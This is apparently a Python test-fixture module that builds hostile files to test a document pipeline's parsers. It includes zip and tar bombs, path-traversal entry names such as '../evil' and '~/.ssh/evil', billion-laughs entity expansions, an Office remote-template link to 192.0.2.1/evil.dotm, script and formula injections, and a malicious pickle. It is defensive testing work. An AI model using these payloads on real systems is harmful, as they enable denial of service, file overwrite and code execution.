"""More files made to hurt: the other kinds of archives, entities in disguise, pictures and nests that never end."""

import io
import pickle
import struct
import tarfile
import warnings
import zlib
from zipfile import ZIP_STORED, ZipFile, ZipInfo

from pipeline.rehearse.formats import office, packs, pdfs
from pipeline.rehearse.formats.ole import msg
from tests.hostile.goods import CSV, GRID, MESSAGE, good, outlook
from tests.hostile.made import ESCAPE, FORMULAS, OUTSIDE, ZEROS, Dangerous, _more, _parts

SCRIPT = "<script>alert(1)</script>"
DEVICES = ("NUL", "con.csv", "LPT1.txt", "aux .csv", "a.csv:stream", "a.csv.", "COM\u00b9.csv")
LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{i} '{f'&a{i - 1};' * 10}'>" for i in range(1, 12)
)  # fmt: skip


def packed() -> dict[str, bytes]:
    """7z and the forms of TAR: bombs, names that lead out, devices, twins, nests, breaks."""
    fifo, device = packs.link("f", "", tarfile.FIFOTYPE), packs.link("c", "", tarfile.CHRTYPE)
    nest = packs.seven_zipped({"a.csv": CSV})
    for _ in range(8):
        nest = packs.seven_zipped({"a.7z": nest})
    mixed = packs.tarred({"a.7z": packs.seven_zipped({"b.zip": packs.zipped({"c.csv": CSV})})}, "xz")
    whole = packs.tarred({f"{i}.csv": CSV for i in range(20)}, "gz")
    files = {
        "more_bomb.7z": packs.seven_zipped({"a.csv": ZEROS * 3}),
        "more_nest.7z": nest,
        "more_devices.7z": packs.seven_zipped(dict.fromkeys(("NUL", "con.csv", "LPT1.txt"), b"x")),
        "more_twins.7z": packs.seven_zipped({"A.csv": CSV, "a.csv": CSV}),
        "more_cut.7z": packs.seven_zipped({"a.csv": CSV})[:-20],
        "more_bomb.tar.xz": packs.tarred({"a.csv": ZEROS * 3}, "xz"),
        "more_mixed.tar.xz": mixed,
        "more_cut.tar.gz": whole[: len(whole) // 2],
        "more_pipes.tar": packs.tarred({"a.csv": CSV}, odd=[fifo, device]),
        "more_chain.tar": packs.tarred({}, odd=[packs.link("b", "a"), packs.link("a", "b"), packs.link("c", "../..")]),
        "more_twice.tar": packs.tarred({"a.csv": CSV}) + packs.tarred({"a.csv": CSV.replace(b"INV", b"OTH")}),
        "more_long.tar": packs.tarred({"/".join(["d" * 90] * 60) + "/a.csv": CSV}),
        "more_nameless.tar": packs.tarred({"": CSV, ".": CSV, "./": CSV, "a/../b.csv": CSV}),
    }
    for kind in ("gz", "bz2", "xz"):
        files[f"more_out.tar.{kind}"] = packs.tarred({"../evil": b"x", "a/../../evil": b"x", "/evil": b"x"}, kind)
        files[f"more_devices.tar.{kind}"] = packs.tarred(dict.fromkeys(DEVICES, b"x"), kind)
    return files


def zips() -> dict[str, bytes]:
    """ZIPs whose lists of contents do not agree with what is in them."""
    good_one = packs.zipped({"a.csv": CSV})
    at = good_one.rfind(b"PK\1\2")
    method, twice = bytearray(good_one), io.BytesIO()
    method[at + 10 : at + 12] = (98).to_bytes(2, "little")
    with warnings.catch_warnings(action="ignore"), ZipFile(twice, "w", ZIP_STORED) as file:
        for content in (CSV, CSV.replace(b"INV", b"OTH")):
            entry = ZipInfo("a.csv")
            file.writestr(entry, content)
    other = bytearray(good_one)
    other[at + 46 : at + 51] = b"b.csv"  # the list has another name than the entry itself
    wrong = bytearray(good_one)
    wrong[at + 16 : at + 20] = b"\0\0\0\0"  # the checksum
    return {
        "more_devices.zip": packs.zipped(dict.fromkeys(DEVICES, b"x")),
        "more_unc.zip": packs.zipped({"\\\\192.0.2.1\\share\\a.csv": b"x", "//192.0.2.1/a": b"x", "~/.ssh/evil": b"x"}),
        "more_names.zip": packs.zipped({"": b"x", " ": b"x", "...": b"x", "a//b.csv": CSV, "dir/": CSV, "dir": CSV}),
        "more_likes.zip": packs.zipped({"straße.csv": CSV, "STRASSE.csv": CSV, "ﬁ.csv": b"x", "fi.csv": b"x"}),
        "more_html.zip": packs.zipped({f"{SCRIPT.replace('/', '-')}.csv": CSV}),
        "more_front.zip": b"MZ" + b"\0" * 5_000 + good_one,
        "more_behind.zip": good_one + b"\0" * 70_000,
        "more_twice.zip": twice.getvalue(),
        "more_method.zip": bytes(method),
        "more_other_name.zip": bytes(other),
        "more_checksum.zip": bytes(wrong),
        "more_two_in_one.zip": good_one + packs.zipped({"b.csv": CSV}),
    }


def markup() -> dict[str, bytes]:
    """Entities where a search for their letters would not see them; scripts, escapes and formulas in every field."""
    book = office.xlsx({"A": GRID})
    utf16 = "<?xml version='1.0' encoding='utf-16'?>" + OUTSIDE + "<w:document/>"
    cells = [["Reference", SCRIPT], *[[text, SCRIPT] for text in FORMULAS]]
    sheet = office.xlsx({"<b>A": [[f"Reference{ESCAPE[1:4]}", "Country"], ["A-1", "x"]]})
    return {
        "more_utf16.docx": office.parcel({"word/document.xml": utf16.encode("utf-16")}),
        "more_laughs.docx": office.docx(["&a11;"], before=f"{LAUGHS}]>"),
        "more_laughs.xlsx": office.parcel(
            {**_parts(book), "xl/sharedStrings.xml": f"<?xml version='1.0'?>{LAUGHS}]><sst><si><t>&a11;</t></si></sst>"}
        ),
        "more_entities.html": f"{LAUGHS}]><html><body><p>&a11;</p></body></html>".encode(),
        "more_include.docx": _more(good("docx"), {"word/_rels/document.xml.rels": _outside_part()}),
        "more_macro.docm": _more(good("docx"), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 100}),
        "more_fields.xlsx": office.xlsx({"A": cells}),
        "more_fields.ods": office.ods({"A": cells}),
        "more_sheet.xlsx": sheet,
        "more_fields.tsv": "".join("\t".join(row) + "\n" for row in cells).encode(),
        "more_keys.json": f'[{{"{SCRIPT}": "{SCRIPT}", "\\u001b[2J": "=1+1", "Reference": "A-1"}}]'.encode(),
        "more_subject.eml": f"From: {SCRIPT}\nSubject: {ESCAPE}{SCRIPT}\n\n{MESSAGE}".encode(),
        "more_page.html": f"<table><tr><th>{SCRIPT}<th onclick=x>b<tr><td>a<td>{SCRIPT}</table>".encode(),
        "more_wide_forms.csv": "Reference,Country\nA-1,＝1+1\nA-2,＠SUM\nA-3,\ufeff=1\n".encode(),
    }


def without_end() -> dict[str, bytes]:
    """Nests, headers, pages and pictures far larger than anything honest."""
    parts = "".join(f"Content-Type: message/rfc822\n\nSubject: {i}\n" for i in range(800))
    name = "k" * (4 << 20)
    png = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0))
    png += _chunk(b"IDAT", zlib.compress(b"\0" * (40 << 20), 9)) + _chunk(b"IEND", b"")
    page = pdfs.pdf([pdfs.text_page(["words"])])
    flat = zlib.compress(b" " * (200 << 20), 9)
    return {
        "more_mails.eml": ("From: a@b\n" + parts + "\nwords").encode(),
        "more_header.eml": b"From: a@b\nX-Long: " + b"x" * (16 << 20) + b"\n\nwords",
        "more_box.mbox": b"From a@b Fri Mar  1 10:00:00 2024\n\n" * 20_000,
        "more_nest.html": b"<div>" * 50_000 + b"words" + b"</div>" * 50_000,
        "more_nest.jsonl": b'{"a":' * 3_000 + b"1" + b"}" * 3_000 + b"\n" + b'{"Reference": "A-1"}\n',
        "more_key.json": f'[{{"{name}": 1}}]'.encode(),
        "more_commas.csv": b"," * 2_000_000 + b"\n",
        "more_blank.csv": b"Reference,Country\n" + b"\n" * 500_000 + b"A-1,x\n",
        "more_same.csv": b",".join([b"Reference"] * 3_000) + b"\n" + b",".join([b"A-1"] * 3_000) + b"\n",
        "more_utf7.csv": b"Reference,Country\n+AD0-1,+ADw-script+AD4-\n",
        "more_half_utf16.csv": "Reference,Country\nA-1,x\n".encode("utf-16-le")[:-1],
        "more_picture.png": png,
        "more_cut.png": png[:60],
        "more_vast.pdf": page.replace(b"[0 0 600 842]", b"[0 0 9e9 9e9]"),
        "more_flat.pdf": page.replace(b"<</Length", b"<</Filter/FlateDecode/Length").replace(b"BT", flat[:2]),
        "more_self.pdf": page.replace(b"/Parent 2 0 R", b"/Parent 5 0 R"),
        "more_pickle.pkl": pickle.dumps(Dangerous()),
        "more_pickle.json": pickle.dumps(Dangerous(), protocol=0),
        "more_loop.msg": _looped(outlook()),
        "more_devices.msg": msg(_attached("NUL.csv")),
        "more_out.msg": msg(_attached("..\\..\\evil.csv")),
        "more_deep.rtf": b"{\\rtf1 " + b"{\\b " * 50_000 + b"words" + b"}" * 50_000 + b"}",
        "more_bin.rtf": b"{\\rtf1 words\\bin2000000000 x}",
    }


def all_of() -> dict[str, bytes]:
    """Every file of these classes by name."""
    return {**packed(), **zips(), **markup(), **without_end()}


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _outside_part() -> str:
    """A list of parts that lie on another machine."""
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    part = f'<Relationship Id="r1" Type="{kind}" TargetMode="External" Target="http://192.0.2.1/evil.dotm"/>'
    return f'<Relationships xmlns="{space}">{part}</Relationships>'


def _attached(name: str) -> dict[str, bytes]:
    attached = "__attach_version1.0_#00000000/__substg1.0_"
    return {
        "__substg1.0_1000001F": MESSAGE.encode("utf-16-le"),
        f"{attached}3707001F": name.encode("utf-16-le"),
        f"{attached}37010102": CSV,
    }


def _looped(file: bytes) -> bytes:
    """An Outlook file whose chain of sectors leads back to its beginning."""
    chain = len(file) - 512
    return file[:chain] + struct.pack("<128I", *([0] * 128))
